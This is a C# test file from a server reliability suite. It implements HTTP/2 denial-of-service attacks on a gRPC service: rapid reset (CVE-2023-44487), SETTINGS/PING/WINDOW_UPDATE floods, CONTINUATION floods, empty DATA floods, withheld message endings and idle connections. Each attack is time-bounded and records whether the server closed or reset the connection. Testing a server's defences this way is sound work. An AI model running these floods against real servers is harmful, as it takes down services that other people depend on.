using System.Diagnostics;
using System.Net;
using System.Net.Sockets;

namespace Calc.Reliability.Tests.Attacks;

/// <summary>What an attack sent and what the server did to it.</summary>
public sealed record AttackOutcome(long Connections, long Frames, long ClosedByServer, long StreamsReset, long Bytes = 0)
{
    public override string ToString() =>
        $"{Connections} connections, {Frames} frames{(Bytes > 0 ? $" ({Bytes / (1024 * 1024)} MiB)" : "")}, {ClosedByServer} closed by the server"
        + (StreamsReset > 0 ? $", {StreamsReset} streams reset by the server" : "");
}

/// <summary>
/// HTTP/2 attacks on a server, each bounded by <c>duration</c> and written with <see cref="RawH2Connection"/>:
/// bursts of frames are built once and sent in one write, as an attacker would, from a loopback address of its own.
/// </summary>
public static class Http2Attacks
{
    private const string Unary = "/calc.v1.QuoteService/GetCbrRate";

    /// <summary>
    /// Rapid reset (CVE-2023-44487): HEADERS of a call and its RST_STREAM(CANCEL) at once, 100 streams a burst.
    /// <paramref name="attackers"/> connections at a time; with <paramref name="reconnect"/> each one opens a new
    /// connection as soon as the server closes its last (else it waits out the duration once its connection is closed).
    /// </summary>
    public static async Task<AttackOutcome> RapidResetAsync(IPEndPoint server, IPAddress source, TimeSpan duration, int attackers, bool reconnect)
    {
        long connections = 0, streams = 0, closed = 0;
        var clock = Stopwatch.StartNew();
        await Task.WhenAll(Enumerable.Range(0, attackers).Select(_ => Task.Run(async () =>
        {
            do
            {
                RawH2Connection c;
                try
                {
                    c = await RawH2Connection.OpenAsync(server, source);
                }
                catch (SocketException)
                {
                    await Task.Delay(10);
                    continue;
                }

                Interlocked.Increment(ref connections);
                await using (c)
                {
                    byte[] headers = H2.GrpcRequestHeaders(c.Authority, Unary);
                    while (clock.Elapsed < duration && !c.Closed)
                    {
                        var burst = new List<byte>(100 * 120);
                        for (int i = 0; i < 100; i++)
                        {
                            int id = c.NextStreamId();
                            H2.Frame(burst, H2.Headers, H2.EndHeaders, id, headers);
                            burst.AddRange(H2.RstStreamFrame(id, H2.Cancel));
                        }

                        if (!await SendForAsync(c, [.. burst], clock, duration))
                        {
                            break;
                        }

                        Interlocked.Add(ref streams, 100);
                    }

                    if (c.Closed || c.GoAwayError is not null)
                    {
                        Interlocked.Increment(ref closed);
                    }
                }
            }
            while (reconnect && clock.Elapsed < duration);
        })));

        // without reconnecting, the attacker is done once its connection is closed: the window stays the full duration
        if (clock.Elapsed < duration)
        {
            await Task.Delay(duration - clock.Elapsed);
        }

        return new AttackOutcome(connections, streams * 2, closed, 0);
    }

    /// <summary>
    /// One frame sent over and over, 1 000 a write (SETTINGS, PING, WINDOW_UPDATE floods); with
    /// <paramref name="read"/> false the answers (SETTINGS and PING acknowledgements) are never read. A connection
    /// the server closes is replaced.
    /// </summary>
    public static async Task<AttackOutcome> FloodAsync(IPEndPoint server, IPAddress source, TimeSpan duration, byte[] frame, bool read)
    {
        ArgumentNullException.ThrowIfNull(frame);
        long connections = 0, frames = 0, closed = 0;
        var burst = Enumerable.Repeat(frame, 1000).SelectMany(f => f).ToArray();
        var clock = Stopwatch.StartNew();
        while (clock.Elapsed < duration)
        {
            var c = await OpenOrWaitAsync(server, source, read);
            if (c is null)
            {
                continue;
            }

            connections++;
            await using (c)
            {
                while (clock.Elapsed < duration && await SendForAsync(c, burst, clock, duration))
                {
                    frames += 1000;
                }

                closed += c.Closed || c.GoAwayError is not null ? 1 : 0;
            }
        }

        return new AttackOutcome(connections, frames, closed, 0);
    }

    /// <summary>
    /// HEADERS without END_HEADERS followed by CONTINUATION frames without end, each carrying a 100-byte header
    /// (or, <paramref name="empty"/>, nothing at all); a new connection when the server closes one.
    /// </summary>
    public static async Task<AttackOutcome> ContinuationFloodAsync(IPEndPoint server, IPAddress source, TimeSpan duration, bool empty)
    {
        long connections = 0, frames = 0, closed = 0;
        var clock = Stopwatch.StartNew();
        while (clock.Elapsed < duration)
        {
            var c = await OpenOrWaitAsync(server, source, read: true);
            if (c is null)
            {
                continue;
            }

            connections++;
            await using (c)
            {
                int id = c.NextStreamId();
                await c.SendAsync(H2.Frame(H2.Headers, 0, id, H2.GrpcRequestHeaders(c.Authority, Unary)));
                byte[] continuation = H2.Frame(H2.Continuation, 0, id, empty ? [] : H2.HeaderBlock(("x-padding", new string('a', 100))));
                var burst = Enumerable.Repeat(continuation, 1000).SelectMany(f => f).ToArray();
                while (clock.Elapsed < duration && await SendForAsync(c, burst, clock, duration))
                {
                    frames += 1000;
                }

                // a send can stop (its timeout, a full socket buffer) a moment before the reader sees the server's
                // GOAWAY or close: give the reader that moment, so a closed connection is not counted as open
                await WhenClosedAsync(c, TimeSpan.FromSeconds(2));
                closed += c.Closed || c.GoAwayError is not null ? 1 : 0;
            }
        }

        return new AttackOutcome(connections, frames, closed, 0);
    }

    private static async Task WhenClosedAsync(RawH2Connection c, TimeSpan wait)
    {
        var clock = Stopwatch.StartNew();
        while (!c.Closed && c.GoAwayError is null && clock.Elapsed < wait)
        {
            await Task.Delay(10);
        }
    }

    /// <summary>A client stream (StreamRecognizeIncome) opened and fed empty DATA frames without end.</summary>
    public static async Task<AttackOutcome> EmptyDataFloodAsync(IPEndPoint server, IPAddress source, TimeSpan duration)
    {
        long connections = 0, frames = 0, closed = 0;
        var clock = Stopwatch.StartNew();
        while (clock.Elapsed < duration)
        {
            var c = await OpenOrWaitAsync(server, source, read: true);
            if (c is null)
            {
                continue;
            }

            connections++;
            await using (c)
            {
                int id = c.NextStreamId();
                await c.SendAsync(H2.Frame(H2.Headers, H2.EndHeaders, id, H2.GrpcRequestHeaders(c.Authority, "/calc.v1.IncomeService/StreamRecognizeIncome")));
                var burst = Enumerable.Repeat(H2.Frame(H2.Data, 0, id, []), 1000).SelectMany(f => f).ToArray();
                while (clock.Elapsed < duration && !c.IsReset(id) && await SendForAsync(c, burst, clock, duration))
                {
                    frames += 1000;
                }

                closed += c.Closed || c.GoAwayError is not null || c.IsReset(id) ? 1 : 0;
            }
        }

        return new AttackOutcome(connections, frames, closed, 0);
    }

    /// <summary>
    /// <paramref name="streams"/> calls to <paramref name="path"/> on one connection, each declaring a message of
    /// <paramref name="declared"/> bytes and sending it as fast as the flow-control windows allow, never its last
    /// 100 bytes; a stream the server resets gets nothing more.
    /// </summary>
    public static async Task<AttackOutcome> UnfinishedMessagesAsync(IPEndPoint server, IPAddress source, TimeSpan duration, string path, int streams, int declared)
    {
        var clock = Stopwatch.StartNew();
        await using var c = await RawH2Connection.OpenAsync(server, source);
        byte[] headers = H2.GrpcRequestHeaders(c.Authority, path);
        var ids = new List<int>();
        var opening = new List<byte>();
        for (int i = 0; i < streams; i++)
        {
            int id = c.NextStreamId();
            ids.Add(id);
            H2.Frame(opening, H2.Headers, H2.EndHeaders, id, headers);
        }

        await c.SendAsync(opening.ToArray());
        var filler = new byte[16 * 1024];
        Array.Fill(filler, (byte)0x0A);
        var first = (byte[])filler.Clone();
        H2.GrpcMessagePrefix(declared).CopyTo(first, 0);
        var remaining = ids.ToDictionary(id => id, _ => (long)declared + 5 - 100);
        var started = new HashSet<int>();
        long bytes = 0;
        while (clock.Elapsed < duration && !c.Closed)
        {
            bool sent = false;
            foreach (int id in ids)
            {
                if (remaining[id] <= 0 || c.IsReset(id))
                {
                    continue;
                }

                int n = await c.TakeCreditAsync(id, (int)Math.Min(filler.Length, remaining[id]), TimeSpan.Zero);
                if (n == 0)
                {
                    continue;
                }

                var payload = (started.Add(id) ? first : filler).AsSpan(0, n);
                if (!await c.SendAsync(H2.Frame(H2.Data, 0, id, payload)))
                {
                    break;
                }

                remaining[id] -= n;
                bytes += n;
                sent = true;
            }

            if (!sent)
            {
                await Task.Delay(20);
            }
        }

        long reset = ids.Count(c.IsReset);
        return new AttackOutcome(1, c.FramesReceived.Sum(), c.Closed ? 1 : 0, reset, bytes);
    }

    /// <summary>Opens up to <paramref name="count"/> TCP connections that send nothing, spread over <paramref name="sources"/>.</summary>
    public static async Task<List<Socket>> IdleConnectionsAsync(IPEndPoint server, IReadOnlyList<IPAddress> sources, int count)
    {
        ArgumentNullException.ThrowIfNull(sources);
        var sockets = new List<Socket>(count);
        for (int i = 0; i < count; i++)
        {
            try
            {
                sockets.Add(await RawH2Connection.OpenIdleAsync(server, sources[i % sources.Count]));
            }
            catch (SocketException)
            {
                // the backlog is full for a moment; the count of what opened is what matters
            }
        }

        return sockets;
    }

    private static async Task<RawH2Connection?> OpenOrWaitAsync(IPEndPoint server, IPAddress source, bool read)
    {
        try
        {
            return await RawH2Connection.OpenAsync(server, source, read);
        }
        catch (SocketException)
        {
            await Task.Delay(10);
            return null;
        }
    }

    /// <summary>Sends <paramref name="bytes"/> unless the attack's time is up first (a send the server does not read blocks).</summary>
    private static async Task<bool> SendForAsync(RawH2Connection c, byte[] bytes, Stopwatch clock, TimeSpan duration)
    {
        var left = duration - clock.Elapsed;
        if (left <= TimeSpan.Zero)
        {
            return false;
        }

        using var timeout = new CancellationTokenSource(left);
        try
        {
            return await c.SendAsync(bytes, timeout.Token);
        }
        catch (OperationCanceledException)
        {
            return false;
        }
    }
}
